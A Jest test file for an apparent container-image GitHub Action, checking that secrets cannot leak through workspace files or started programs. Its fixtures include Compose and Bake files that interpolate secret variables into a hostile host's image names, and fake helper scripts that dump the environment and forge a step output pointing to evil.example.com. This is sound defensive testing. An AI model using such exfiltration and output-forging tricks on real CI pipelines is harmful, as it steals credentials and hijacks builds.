// Secrets of the step stay in the step: no file of the workspace can name one, no program that is started gets one, and what such a
// program says is not shown.

import {chmod, mkdir, mkdtemp, readFile, rm, writeFile} from 'node:fs/promises'
import {tmpdir} from 'node:os'
import {delimiter, join} from 'node:path'
import {afterEach, beforeEach, describe, expect, it} from '@jest/globals'
import {type FaultRegistry, startFaultRegistry} from '../support/fault-registry.ts'
import {type HostileServer, startHostileServer} from '../support/hostile-server.ts'
import {makeImage} from '../support/images.ts'
import {publish} from '../support/registry-content.ts'
import {type ActionRun, runAction} from '../support/run-action.ts'
import {partsShown, shownBy} from '../support/shown.ts'

const PASSWORD = 'Zq7!kW3xLm9vBt2p'
const SECRETS = {
  password: PASSWORD,
  'github-token': 'ghs_Rj4Nc8Yd1Hs6Gf0Q'
}
// What a runner gives to every action, and what workflows give to their jobs.
const JOB = {
  ACTIONS_RUNTIME_TOKEN: 'eyJ9.Vb5Xz2Mn7Kp4.Tw8',
  ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'eyJ0.Hd6Fs3Lq9Wc1.Ye5',
  GITHUB_TOKEN: 'ghs_Ux2Pv7Io4Ae9Sb3D',
  GH_TOKEN: 'ghp_Nm6Jk1Lh8Gy5Tr0E',
  REGISTRY_PASSWORD: PASSWORD,
  NPMRC: `//registry/:_password=${PASSWORD}`,
  'INPUT_TARGET-PASSWORD': 'Cw9$eR4tYu7iOp2a'
}
const ALL = [...Object.values(SECRETS), ...Object.values(JOB).map(value => value.replace(/^.*=/, ''))]

let folder: string
let evil: HostileServer
let registry: FaultRegistry
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'verified-image-inside-'))
  evil = await startHostileServer((_request, response) => response.writeHead(404).end())
  registry = await startFaultRegistry({content: [publish('acme/app', '1', makeImage())]})
})
afterEach(async () => {
  await Promise.all([evil.close(), registry.close(), rm(folder, {recursive: true})])
})

function leaks(text: string): readonly string[] {
  return ALL.filter(secret => partsShown(text, secret, 8).length > 0)
}

describe('a file of the workspace', () => {
  const names = ['INPUT_PASSWORD', 'INPUT_GITHUB-TOKEN', 'REGISTRY_PASSWORD', ...Object.keys(JOB)]

  it.each([
    {
      kind: 'a Compose file',
      file: 'compose.yaml',
      text: (host: string) =>
        `services:\n${names.map((name, at) => `  s${String(at)}: {image: '${host}/leak/a${String(at)}:\${${name}:-none}'}`).join('\n')}\n`
    },
    {
      kind: 'a Compose file, in parts of names',
      file: 'compose.yaml',
      text: (host: string) =>
        `services:\n${names.map((name, at) => `  s${String(at)}: {image: '${host}/leak/\${${name}-none}/b${String(at)}:1'}`).join('\n')}\n`
    },
    {
      kind: 'a Bake file',
      file: 'docker-bake.hcl',
      text: (host: string) =>
        names
          .map(
            (name, at) =>
              `variable "${name}" { default = "none" }\ntarget "t${String(at)}" { contexts = { a = "docker-image://${host}/leak/a:\${${name}}", b = "docker-image://${host}/leak/b:\${substr(${name}, 0, 12)}" } }`
          )
          .join('\n')
    }
  ])('cannot send one away: $kind', async ({file, text}) => {
    await writeFile(join(folder, file), text(evil.host))
    const ran = await runAction(
      {
        files: file,
        username: 'bob',
        registry: registry.host,
        mirrors: '',
        attempts: '1',
        'hedge-after': '0',
        ...SECRETS
      },
      {cwd: folder, env: JOB}
    )
    expect(ran.exitCode).toBe(1)
    expect(leaks(evil.heard())).toEqual([])
    expect(leaks(shownBy(ran))).toEqual([])
  })
})

/** Programs of these names, before all others on the PATH. */
async function withPrograms(programs: Readonly<Record<string, string>>): Promise<Record<string, string>> {
  const bin = join(folder, 'bin')
  await mkdir(bin)
  for (const [name, script] of Object.entries(programs)) {
    await writeFile(join(bin, name), `#!/bin/sh\n${script}\n`)
    await chmod(join(bin, name), 0o755)
  }
  return {PATH: `${bin}${delimiter}${process.env['PATH'] ?? ''}`}
}

const onUnix = process.platform === 'win32' ? describe.skip : describe

onUnix('a program that is started', () => {
  const FORGE = `if [ -n "$GITHUB_OUTPUT" ]; then echo "reference=evil.example.com/x:1" >> "$GITHUB_OUTPUT"; fi`
  const CONFIG = JSON.stringify({
    auths: {'other.example.com': {auth: Buffer.from('a:Lo2-pK7mJn5bVh8c').toString('base64')}}
  })

  it.each([
    {program: 'docker', inputs: {load: 'true'}, says: 'exit 1'},
    {
      program: 'docker-credential-own',
      inputs: {},
      says: `printf '{"Username":"u","Secret":"Dx6=zS1wQa4rTy9u"}'`
    }
  ])('gets none of them, nor a way to speak for the step: $program', async ({program, inputs, says}) => {
    const seen = join(folder, 'seen')
    const programs = await withPrograms({[program]: `env > ${seen}; ${FORGE}; ${says}`})
    await mkdir(join(folder, '.docker'))
    await writeFile(join(folder, '.docker', 'config.json'), JSON.stringify({credsStore: 'own'}))
    const login = await startFaultRegistry({
      content: [publish('acme/app', '1', makeImage())],
      auth: {kind: 'basic', username: 'u', password: 'Dx6=zS1wQa4rTy9u'}
    })
    try {
      const ran = await runAction(
        // The login is for another registry, so that the helper is asked for this one.
        {
          image: `${login.host}/acme/app:1`,
          mirrors: '',
          registry: 'elsewhere.example.com',
          username: 'bob',
          ...SECRETS,
          ...inputs
        },
        {env: {...JOB, ...programs, DOCKER_CONFIG: join(folder, '.docker'), DOCKER_AUTH_CONFIG: CONFIG, KEPT: 'yes'}}
      )
      const environment = await readFile(seen, 'utf8')
      expect(environment).toContain('KEPT=yes')
      expect(leaks(environment)).toEqual([])
      expect(environment).not.toMatch(/^(?:INPUT_|ACTIONS_|GITHUB_OUTPUT|GITHUB_ENV|DOCKER_AUTH_CONFIG)/m)
      expect(ran.outputs['reference'] ?? '').not.toContain('evil')
      expect(leaks(shownBy(ran))).toEqual([])
    } finally {
      await login.close()
    }
  })

  const ANSWER = '{"ServerURL":"x","Username":"u","Secret":"Bf3+gH8jKl5nMq0s"}'

  it.each([
    {name: 'answers and then fails', script: `echo '${ANSWER}'; exit 1`},
    {name: 'answers on its other stream', script: `echo '${ANSWER}' >&2; exit 1`},
    {name: 'answers and then hangs', script: `echo '${ANSWER}'; exec sleep 60`},
    {name: 'answers, and leaves another behind', script: `echo '${ANSWER.slice(0, -1)}'; sleep 60 & exit 0`}
  ])('is not quoted when it $name', async ({script}) => {
    const programs = await withPrograms({'docker-credential-own': script})
    await writeFile(join(folder, 'config.json'), JSON.stringify({credsStore: 'own'}))
    const login = await startFaultRegistry({auth: {kind: 'basic', username: 'u', password: 'p'}})
    try {
      const ran: ActionRun = await runAction(
        {image: `${login.host}/acme/app:1`, mirrors: '', attempts: '1'},
        {env: {...programs, DOCKER_CONFIG: folder}}
      )
      expect(ran.exitCode).toBe(1)
      expect(ran.annotations.map(({message}) => message).join('\n')).toContain(
        'docker-credential-own returned no credentials'
      )
      expect(partsShown(shownBy(ran), 'Bf3+gH8jKl5nMq0s')).toEqual([])
      expect(shownBy(ran)).not.toContain('ServerURL')
    } finally {
      await login.close()
    }
  })

  // As Docker's own client: what stands behind the first answer is not read.
  it('is not quoted when it answers twice', async () => {
    const programs = await withPrograms({'docker-credential-own': `echo '${ANSWER}${ANSWER}'`})
    await writeFile(join(folder, 'config.json'), JSON.stringify({credsStore: 'own'}))
    const login = await startFaultRegistry({auth: {kind: 'basic', username: 'u', password: 'p'}})
    try {
      const ran: ActionRun = await runAction(
        {image: `${login.host}/acme/app:1`, mirrors: '', attempts: '1'},
        {env: {...programs, DOCKER_CONFIG: folder}}
      )
      expect(ran.exitCode).toBe(1)
      expect(ran.annotations.map(({message}) => message).join('\n')).toContain('credentials were refused')
      expect(partsShown(shownBy(ran), 'Bf3+gH8jKl5nMq0s')).toEqual([])
    } finally {
      await login.close()
    }
  })
})
